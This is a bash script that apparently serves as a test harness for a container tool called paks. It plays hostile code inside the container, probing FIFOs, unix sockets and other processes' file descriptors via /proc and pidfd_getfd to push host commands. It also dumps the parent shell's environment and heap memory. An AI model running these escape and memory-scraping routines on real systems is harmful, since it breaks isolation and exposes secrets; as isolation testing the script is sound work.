#!/bin/bash
# SPDX-License-Identifier: MIT
#
# Stand-in for hostile code in a paks container (an install script, a test
# suite): it tries every route it can find to make paks act on the host.
# Each route sends "#envhost VAR" and "#cp /etc/hostname host:FILE-ROUTE"
# and saves whatever comes back in OUT.ROUTE.  Run with bash and coreutils,
# plus perl-base (Essential in Debian) for sockets and pidfd_getfd.
#
#   attack.sh VAR FILE OUTDIR [SHELLPID]
set -u
var=$1 file=$2 out=$3 shellpid=${4:-$PPID}
mkdir -p "$out"
dir=/dev/.paks

# frame TYPE PAYLOAD: one paks frame, header little-endian.
frame() {
	local t=$1 p=$2 n=${#2}
	printf "\\x$(printf %02x "$t")\\x00\\x00\\x00\\x$(printf %02x $((n & 255)))\\x$(printf %02x $((n >> 8)))\\x00\\x00%s" "$p"
}
request() { # ROUTE: CWD then LINE frames for one command
	frame 2 /
	frame 3 "$1"
}
lines() { # ROUTE
	echo "#envhost $var"
	echo "#cp /etc/hostname host:$file-$1"
}

# 1. The FIFO way: a private pair named in a HELLO on every FIFO we find.
fifo_route() { # REQFIFO ROUTE LINENO
	local id="$$-$2" q a line
	q=$dir/$id.q a=$dir/$id.a
	mkfifo "$q" "$a" 2>/dev/null || return
	exec 8<>"$a"
	frame 1 "$id" >"$out/hello"
	lines "$2" | sed -n "${3}p" | while read -r line; do request "$line"; done >"$out/req"
	timeout 2 cp "$out/hello" "$1" 2>/dev/null
	timeout 3 cp "$out/req" "$q" 2>/dev/null
	timeout 3 cat <&8 >"$out/OUT.$2" 2>/dev/null
	exec 8<&-
	rm -f "$q" "$a"
}
n=0
[ -e "$dir/req" ] || mkfifo "$dir/req" 2>/dev/null
for f in $(find / -xdev -type p 2>/dev/null) $(find "$dir" -type p 2>/dev/null); do
	n=$((n + 1))
	fifo_route "$f" "fifo$n" 1
	fifo_route "$f" "fifocp$n" 2
done

# 2. Every unix socket: by path, and every socket another process holds.
sock_route() { # PATH ROUTE
	local l
	for l in "$(lines "$2" | head -1)" "$(lines "$2" | tail -1)"; do
		request "$l"
	done | timeout 5 perl -MIO::Socket::UNIX -e '
		my $s = IO::Socket::UNIX->new(Peer => $ARGV[0]) or exit 1;
		local $/; my $req = <STDIN>; print $s $req; $s->flush;
		alarm 4; while (sysread($s, my $b, 65536)) { print $b }' "$1" \
		>"$out/OUT.$2" 2>/dev/null
}
n=0
for s in $(find / /dev/.paks -xdev -type s 2>/dev/null); do
	n=$((n + 1))
	sock_route "$s" "sock$n"
done

# 3. Every fd of every process, the shell's first: open it via /proc, and
#    take it with pidfd_getfd (x86_64 syscalls 434 and 438).
fd_route() { # PID FD ROUTE
	timeout 5 bash -c '
		exec 7<>"$1" || exit 1
		cat "$2" >&7; timeout 3 cat <&7' _ "/proc/$1/fd/$2" \
		<(lines "$3" | while read -r l; do request "$l"; done) \
		>"$out/OUT.$3" 2>/dev/null
}
getfd_route() { # PID ROUTE
	lines "$2" | while read -r l; do request "$l"; done |
		timeout 8 perl -e '
		my ($pid) = @ARGV; local $/; my $req = <STDIN>;
		my $pfd = syscall(434, $pid + 0, 0);
		if ($pfd < 0) { print STDERR "pidfd_open: $!\n"; exit 1 }
		for my $n (0 .. 1023) {
			my $fd = syscall(438, $pfd, $n, 0);
			next if $fd < 0;
			print STDERR "got fd $n as $fd\n";
			open(my $h, "+<&=", $fd) or next;
			next unless -S $h || -p $h;
			syswrite($h, $req);
			my $rin = ""; vec($rin, $fd, 1) = 1;
			while (select(my $r = $rin, undef, undef, 1) > 0) {
				sysread($h, my $b, 65536) or last; print $b;
			}
		}' "$1" >"$out/OUT.$2" 2>"$out/ERR.$2"
}
for pid in $shellpid $(ls /proc | grep -E '^[0-9]+$'); do
	[ "$pid" = $$ ] || [ "$pid" = "$BASHPID" ] && continue
	for fdp in /proc/"$pid"/fd/*; do
		[ -e "$fdp" ] || continue
		case $(readlink "$fdp") in
		socket:* | pipe:*) fd_route "$pid" "${fdp##*/}" "fd$pid-${fdp##*/}" ;;
		esac
	done
done
getfd_route "$shellpid" "getfd$shellpid"

# 4. What the shell process shows: its environment and its memory.
cat "/proc/$shellpid/environ" >"$out/OUT.environ" 2>/dev/null
ls -l "/proc/$shellpid/fd/" >"$out/OUT.fdlist" 2>&1
if dd if="/proc/$shellpid/mem" bs=1 count=1 skip=4194304 status=none \
	>/dev/null 2>"$out/ERR.mem"; then
	echo "mem: readable" >"$out/OUT.mem"
fi
grep -E 'r.-p .*\[heap\]' "/proc/$shellpid/maps" 2>/dev/null | while read -r range _; do
	s=$((16#${range%-*})) e=$((16#${range#*-}))
	timeout 10 dd if="/proc/$shellpid/mem" bs=4096 skip=$((s / 4096)) \
		count=$(((e - s) / 4096)) status=none >"$out/OUT.heap" 2>/dev/null
done
echo "attack done: $(ls "$out" | wc -l) files"
